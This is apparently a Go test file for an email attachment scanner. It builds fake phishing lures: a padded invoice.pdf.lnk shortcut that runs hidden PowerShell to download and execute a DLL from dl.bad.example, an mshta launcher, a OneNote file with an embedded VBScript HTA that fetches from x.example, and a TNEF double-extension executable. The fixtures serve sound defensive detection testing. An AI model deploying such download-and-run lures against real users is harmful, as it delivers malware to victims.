package attach

import (
	"strings"
	"testing"

	"github.com/sekisho/sekisho/internal/testutil/testdoc"
)

func TestShortcuts(t *testing.T) {
	// The 2022–2024 lure: a zip with "invoice.pdf.lnk" that starts
	// PowerShell, minimised, to fetch a DLL.
	evil := testdoc.LNK(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		strings.Repeat(" ", 200)+`-w hidden -c "iwr https://dl.bad.example/a.dll -OutFile $env:TEMP\a.dll; rundll32 $env:TEMP\a.dll,Run"`, `%TEMP%`, 7)
	raw := testdoc.Mail("請求書", "ご確認ください", testdoc.Attachment{Name: "請求書.zip", Type: "application/zip",
		Data: testdoc.Zip(map[string][]byte{"invoice.pdf.lnk": evil})})
	task := scan(t, raw, nil)
	want(t, task, SymLNKCommand, SymLNKPaddedArgs, SymDangerousType)
	if ev := hits(task)[SymLNKCommand]; len(ev) == 0 || !strings.Contains(ev[0], "powershell.exe") || !strings.Contains(ev[0], "minimised") {
		t.Errorf("evidence %v", ev)
	}
	found := false
	for _, u := range task.URLs() {
		if u.Host == "dl.bad.example" {
			found = true
		}
	}
	if !found {
		t.Error("the shortcut's download URL was not handed to the URL checks")
	}
	// %COMSPEC% in the target and cmd in the arguments.
	comspec := testdoc.LNK(`%COMSPEC%`, `/c start mshta http://x.example/p.hta`, ``, 1)
	want(t, scan(t, testdoc.Mail("x", "y", testdoc.Attachment{Name: "doc.lnk", Data: comspec}), nil), SymLNKCommand)

	// A shortcut to an ordinary program is only a shortcut.
	plain := testdoc.LNK(`C:\Program Files\Viewer\viewer.exe`, `report.txt`, `C:\Users\a`, 1)
	task = scan(t, testdoc.Mail("x", "y", testdoc.Attachment{Name: "viewer.lnk", Data: plain}), nil)
	notWant(t, task, SymLNKCommand, SymLNKPaddedArgs)
}

func TestOneNote(t *testing.T) {
	hta := []byte("<HTA:APPLICATION ID=\"x\" /><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell -c iwr http://x.example/a\"</script>")
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR fake")
	raw := testdoc.Mail("Invoice", "Double-click to view", testdoc.Attachment{Name: "invoice.one", Data: testdoc.OneNote(png, hta)})
	task := scan(t, raw, nil)
	want(t, task, SymOneNoteCode, SymDangerousType)
	if ev := hits(task)[SymOneNoteCode]; len(ev) == 0 || !strings.Contains(ev[0], "HTML application") {
		t.Errorf("evidence %v", ev)
	}
	// The embedded files are listed as inner files of the section.
	n := 0
	for _, a := range task.Attachments() {
		if strings.Contains(a.Path, "invoice.one/embedded-") || strings.Contains(a.Path, "/embedded-") {
			n++
		}
	}
	if n != 2 {
		t.Errorf("%d embedded files listed", n)
	}
	// A program embedded is found as a program.
	exe := []byte("MZ" + strings.Repeat("\x00", 200))
	want(t, scan(t, testdoc.Mail("x", "y", testdoc.Attachment{Name: "a.one", Data: testdoc.OneNote(exe)}), nil), SymOneNoteCode, SymExecutableInArchive)
	// Pictures only: a OneNote file, nothing embedded that runs.
	notWant(t, scan(t, testdoc.Mail("x", "y", testdoc.Attachment{Name: "notes.one", Data: testdoc.OneNote(png)}), nil), SymOneNoteCode)
}

func TestTNEF(t *testing.T) {
	exe := []byte("MZ" + strings.Repeat("\x00", 200))
	dat := testdoc.TNEF([]testdoc.ZipEntry{{Name: "INVOICE.PDF.EXE", Data: exe}, {Name: "readme.txt", Data: []byte("hello")}})
	task := scan(t, testdoc.Mail("Invoice", "see attached", testdoc.Attachment{Name: "winmail.dat", Type: "application/ms-tnef", Data: dat}), nil)
	want(t, task, SymExecutableInArchive, SymDoubleExt)
	found := false
	for _, a := range task.Attachments() {
		if strings.HasSuffix(a.Path, "/INVOICE.PDF.EXE") && a.DetectedType != "" {
			found = true
		}
		if strings.HasSuffix(a.Path, "winmail.dat") && a.DetectedType != "tnef" {
			t.Errorf("winmail.dat detected as %q", a.DetectedType)
		}
	}
	if !found {
		t.Errorf("the file inside winmail.dat is not listed: %+v", task.Attachments())
	}
	// A plain winmail.dat with a text file only is no finding.
	notWant(t, scan(t, testdoc.Mail("x", "y", testdoc.Attachment{Name: "winmail.dat", Type: "application/ms-tnef",
		Data: testdoc.TNEF([]testdoc.ZipEntry{{Name: "notes.txt", Data: []byte("hello")}})}), nil), SymExecutableInArchive, SymArchiveCorrupt)
}
